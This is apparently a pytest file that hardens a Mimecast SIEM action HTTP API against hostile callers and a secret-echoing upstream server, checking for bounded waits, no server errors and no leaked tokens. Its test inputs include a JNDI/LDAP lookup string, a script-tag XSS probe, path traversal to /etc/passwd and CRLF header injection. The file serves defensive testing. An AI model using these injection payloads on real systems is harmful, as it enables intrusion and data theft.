"""Hostile callers of the action HTTP API and a hostile Mimecast behind it.

Callers: bodies that are huge, endless, deeply nested, not UTF-8 or dribbled; NUL, bidi and header
characters in parameters, action names and query parameters. Mimecast: a server that echoes the
bearer token and the client secret (raw, base64, URL-encoded) back in its ``fail[]``. No answer may
be a 5xx for a caller's mistake, no wait may be unbounded, and no answer, audit record or log line may
carry a token or secret.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from mimecast_siem.actions import CATALOGUE
from mimecast_siem.actions.access import FailedAuthThrottle
from mimecast_siem.actions.audit import AuditTrail
from mimecast_siem.actions.http import build_actions_app
from mimecast_siem.actions.service import ActionService
from mimecast_siem.checkpoints import StateStore
from mimecast_siem.config import load_settings
from mimecast_siem.mimecast import reset_limiters
from tests.actions.conftest import TOKENS, ActionEnv, bearer

WAIT = 30.0
HOSTILE_TEXT = [
    "a\x00b",
    "\u202eevil\u202c",
    "line\r\nX-Injected: 1",
    "x" * 20_000,
    "\ufffd\U0001f600",
    "${jndi:ldap://evil}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
]


def tokens_and_secrets(secret: str, access: str) -> list[str]:
    forms = [secret, quote(secret, safe=""), quote_plus(secret), access]
    forms += [base64.b64encode(v.encode()).decode() for v in (secret, access, f"cid:{secret}")]
    forms += [t for t, _scopes, _tenants in TOKENS.values()]
    return forms


# --- caller side --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "not valid JSON"),  # deeper than any parser goes
        (b'{"params": ' + b"[" * 1000 + b"]" * 1000 + b"}", "nested deeper than 64 levels"),  # was a 500
        (b'{"params": {"x": NaN}}', "not valid JSON"),
        (b'{"params": {"x": "\xff\xfe"}}', "not valid JSON"),
        (b'\xef\xbb\xbf{"params": {}}', "not valid JSON"),
        (b'{"params": {}, "params": 7}', "params: must be a JSON object"),
    ],
)
async def test_odd_json_bodies_are_400_never_500(body: bytes, fragment: str, http: Any, action_env: ActionEnv) -> None:
    resp = await http.post(
        "/v1/actions/get-current-account-details",
        data=body,
        headers={**bearer("ops"), "Content-Type": "application/json"},
    )
    doc = await resp.json(content_type=None)
    assert resp.status == 400, doc
    assert fragment in doc["detail"]
    assert action_env.requests_seen() == 0


async def test_a_generic_payload_nested_past_what_can_be_sent_is_refused_not_a_crash(
    http: Any, action_env: ActionEnv
) -> None:
    deep = json.loads("[" * 600 + "]" * 600)
    params = {"method": "POST", "endpoint": "api/account/get-account", "payload": {"data": deep}}
    resp = await http.post("/v1/actions/generic-action", json={"params": params}, headers=bearer("admin"))
    doc = await resp.json(content_type=None)
    assert resp.status < 500, doc
    assert action_env.requests_seen() == 0


@pytest.mark.parametrize("name", sorted(CATALOGUE))
async def test_hostile_text_in_every_parameter_is_refused_or_rendered_never_a_crash(
    name: str, http: Any, action_env: ActionEnv
) -> None:
    properties = CATALOGUE[name].params.model_json_schema().get("properties", {})
    for text in HOSTILE_TEXT:
        params = dict.fromkeys(properties, text)
        resp = await http.post(f"/v1/actions/{name}", json={"params": params, "dry_run": True}, headers=bearer("ops"))
        body = await resp.text()
        assert resp.status in (200, 400, 413), (name, text[:20], body[:300])
        if resp.status == 200:  # rendered: the value travels JSON-encoded, never as a header or path part
            for request in json.loads(body)["requests"]:
                assert "\r" not in request["url"]
                assert "\n" not in request["url"]
    assert action_env.requests_seen() == 0


@pytest.mark.parametrize(
    "path",
    [
        "/v1/actions/%00",
        "/v1/actions/" + "a" * 5000,
        "/v1/actions/..%2f..%2fopenapi.json",
        "/v1/actions/release-held-message%0d%0aX-Injected:%201",
        "/v1/actions/%E2%80%AEevil",
        "/v1/actions/%ff%fe",
    ],
)
async def test_odd_action_names_are_404_with_a_bounded_echo(path: str, http: Any, store: StateStore) -> None:
    resp = await http.post(path, json={}, headers=bearer("ops"))
    text = await resp.text()
    assert resp.status in (400, 404), text[:300]
    assert len(text) < 10_000  # the path is echoed as the problem's instance; aiohttp caps a request line at 8 KiB
    assert "X-Injected" not in resp.headers
    rows = await store.list_audit(limit=1)
    assert rows, "refused calls are audited too"
    assert len(rows[0].action) <= 128


async def test_a_body_that_never_finishes_is_cut_off(action_env: ActionEnv, store: StateStore) -> None:
    service = ActionService(action_env.settings, audit=AuditTrail(store.record_audit))
    app = build_actions_app(service, throttle=FailedAuthThrottle(max_failures=1000), body_timeout=0.5)
    async with TestServer(app, host="127.0.0.1") as server:
        reader, writer = await asyncio.open_connection(server.host, server.port)
        token = TOKENS["ops"][0]
        writer.write(
            b"POST /v1/actions/get-current-account-details HTTP/1.1\r\nHost: x\r\n"
            + f"Authorization: Bearer {token}\r\n".encode()
            + b'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"par'
        )
        await writer.drain()
        status_line = await asyncio.wait_for(reader.readline(), WAIT)  # never answered without a body timeout
        writer.close()
    assert b" 400 " in status_line
    rows = await store.list_audit(limit=1)
    assert rows[0].outcome == "invalid"


async def test_an_endless_chunked_body_is_refused_at_the_limit(http: Any) -> None:
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        yield b'{"params": {"comment": "'
        while sent < 50 * 1024 * 1024:
            sent += 65536
            yield b"x" * 65536

    resp = await http.post(
        "/v1/actions/get-current-account-details",
        data=endless(),
        headers={**bearer("ops"), "Content-Type": "application/json"},
    )
    assert resp.status == 413
    assert sent < 50 * 1024 * 1024  # the server answered long before the caller finished sending


# --- a Mimecast that echoes what it was sent ------------------------------------------------------

ECHO_SECRET = "s3cr3t+/=&?%-HOSTILE-echo-41d8"
ECHO_ACCESS = "acc-tok-8f1e2d3c4b5a69788796a5b4"


@pytest.fixture
async def echoing_mimecast() -> AsyncIterator[str]:
    """Answers the token request, then refuses every call echoing the request's secrets back."""
    seen: dict[str, str] = {}

    async def token(request: web.Request) -> web.Response:
        seen["form"] = (await request.read()).decode()
        return web.json_response({"access_token": ECHO_ACCESS, "token_type": "Bearer", "expires_in": 1800})

    async def echo(request: web.Request) -> web.Response:
        auth = request.headers.get("Authorization", "")
        basic = base64.b64encode(f"cid:{ECHO_SECRET}".encode()).decode()
        message = f"denied for {auth}; token form was {seen.get('form', '')}; basic {basic}"
        fail = [{"key": {"echo": auth, "form": seen.get("form")}, "errors": [{"code": "err_echo", "message": message}]}]
        return web.json_response({"meta": {"status": 400}, "data": [], "fail": fail}, status=400)

    app = web.Application()
    app.router.add_post("/oauth/token", token)
    app.router.add_route("*", "/{tail:.*}", echo)
    async with TestServer(app, host="127.0.0.1") as server:
        yield str(server.make_url("")).rstrip("/")


async def test_secrets_echoed_by_mimecast_never_reach_the_caller_the_audit_or_the_log(
    echoing_mimecast: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    reset_limiters()
    tokens = [
        {"name": name, "sha256": hashlib.sha256(tok.encode()).hexdigest(), "scopes": scopes, "tenants": tenants}
        for name, (tok, scopes, tenants) in TOKENS.items()
    ]
    config = {
        "data_dir": str(tmp_path / "data"),
        "tenants": [{"name": "acme", "base_url": echoing_mimecast, "client_id": "cid", "client_secret": ECHO_SECRET}],
        "actions": {"tokens": tokens, "default_tenant": "acme"},
    }
    path = tmp_path / "config.yaml"
    path.write_text(json.dumps(config))
    settings = load_settings(path, env={})
    caplog.set_level(logging.DEBUG)
    async with await StateStore.open(settings.state_url()) as store:
        service = ActionService(settings, audit=AuditTrail(store.record_audit))
        async with TestClient(TestServer(build_actions_app(service), host="127.0.0.1")) as client:
            answers = []
            for name, params in [
                ("get-current-account-details", {}),
                ("generic-action", {"method": "GET", "endpoint": "api/x", "query_params": {"q": "1"}}),
            ]:
                resp = await client.post(f"/v1/actions/{name}", json={"params": params}, headers=bearer("ops"))
                answers.append(await resp.text())
                assert resp.status == 422, answers[-1][:500]
        audit = [repr(row) for row in await store.list_audit(limit=10)]
    assert "err_echo" in answers[0]  # Mimecast's code still reaches the caller
    everything = "\n".join([*answers, *audit, caplog.text])
    for secret in tokens_and_secrets(ECHO_SECRET, ECHO_ACCESS):
        assert secret not in everything, f"{secret[:6]}... leaked"


async def test_a_flood_of_concurrent_calls_is_answered_without_a_server_error(http: Any, action_env: ActionEnv) -> None:
    async def call(i: int) -> int:
        token = "ops" if i % 3 else "reader"
        resp = await http.post("/v1/actions/get-current-account-details", json={}, headers=bearer(token))
        await resp.read()
        return int(resp.status)

    statuses = await asyncio.wait_for(asyncio.gather(*(call(i) for i in range(300))), 120)
    assert set(statuses) <= {200, 503}, sorted(set(statuses))  # 503: the app's Mimecast quota, with Retry-After
    assert statuses.count(200) > 0
    # One Mimecast request per call (plus the token request): a flood does not multiply into retries.
    assert action_env.requests_seen() <= 300 + 5
